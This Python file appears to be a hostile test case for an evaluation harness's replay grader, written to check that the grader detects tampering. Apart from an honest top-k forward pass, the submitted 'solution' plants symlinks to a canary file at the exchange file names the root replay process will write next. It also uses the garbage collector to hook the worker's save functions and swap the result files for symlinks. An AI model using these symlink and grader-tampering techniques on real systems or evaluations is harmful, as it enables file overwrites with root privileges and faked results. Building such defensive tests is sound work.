"""Planted replay case (hostile): the solution's process attacks the replay's tensor exchange.

Tensors cross between the replay process and the solution's process as files in io/ (``../io``
from the solution's folder), which the solution's process can write, and the replay process
(root on a GPU host) opens them by name.  This case tries to make it act on a host file: the
canary ``canary.txt`` three levels above ``TORCH_EXTENSIONS_DIR`` (the build cache is
``<cache root>/<sha>/torch_extensions``; the test puts the cache root in its tmp folder and the
canary beside it, outside everything the sandbox shows the solution, reachable only by the
replay process):

* at import and at every call it plants symlinks to the canary at the exchange names the
  replay creates next (``{n:05d}-{stem}.pt``, numbered in order): a replay that opens such a
  name (O_TRUNC and a chown to the sandbox uid, then torch.save / pack_save) truncates, chowns
  and overwrites the canary;
* it wraps the worker's own writers (``pack_save``, ``save_exchange`` of its globals, reached
  through gc now that ``__main__`` is empty) so that
  each result file, once written, is swapped for a symlink to the canary: a replay that loads
  by name reads the canary.

Otherwise top-k, honestly.  The replay must leave the canary as it was and end ``tampered``
(``replay-exchange-tampered``): nothing followed, the tampering named.
"""
import gc
import os
import sys

import torch
import torch.nn as nn

_EXT = os.environ.get("TORCH_EXTENSIONS_DIR", "")
CANARY = os.path.normpath(os.path.join(_EXT, "..", "..", "..", "canary.txt")) if _EXT else "/nonexistent"
IO = os.path.normpath(os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "io"))
STEMS = ("put", "out", "state", "write", "snap", "bench", "run", "dec", "state-fresh", "ipc-test")
AHEAD = 48


def plant() -> None:
    """Symlinks to the canary at the next AHEAD exchange numbers, every stem."""
    try:
        names = os.listdir(IO)
    except OSError:
        return
    top = max([int(n[:5]) for n in names if n[:5].isdigit()], default=0)
    for n in range(max(top - 2, 1), top + AHEAD):
        for stem in STEMS:
            try:
                os.symlink(CANARY, os.path.join(IO, f"{n:05d}-{stem}.pt"))
            except OSError:
                pass


def swap(path) -> None:
    """Replace a written result file by a symlink to the canary (atomically, by rename)."""
    tmp = str(path) + ".swap"
    try:
        os.symlink(CANARY, tmp)
        os.rename(tmp, path)
    except OSError:
        pass


def _worker_globals():
    """The replay worker's globals: `__main__` where the worker ran there (before issue 36), else
    found through the garbage collector (the only way left; the audit hook records it)."""
    m = sys.modules.get("__main__")
    if m is not None and hasattr(m, "Worker"):
        return vars(m)
    for o in gc.get_objects():
        if type(o) is dict and "Worker" in o and "open_exchange" in o:
            return o
    return None


_worker = _worker_globals() or {}
for _name in ("pack_save", "save_exchange"):
    _orig = _worker.get(_name)
    if _orig is not None:
        def _wrapped(obj, path, *a, _orig=_orig, **kw):
            _orig(obj, path, *a, **kw)
            swap(path)
        _worker[_name] = _wrapped

plant()


class Model(nn.Module):
    def __init__(self, batch, n, k):
        super().__init__()
        self.k = k
        self.register_buffer("_dummy", torch.zeros(1, dtype=torch.float32))

    def forward(self, x):
        plant()
        v, i = x.sort(dim=-1, descending=True, stable=True)
        return v[:, : self.k].contiguous(), i[:, : self.k].contiguous()
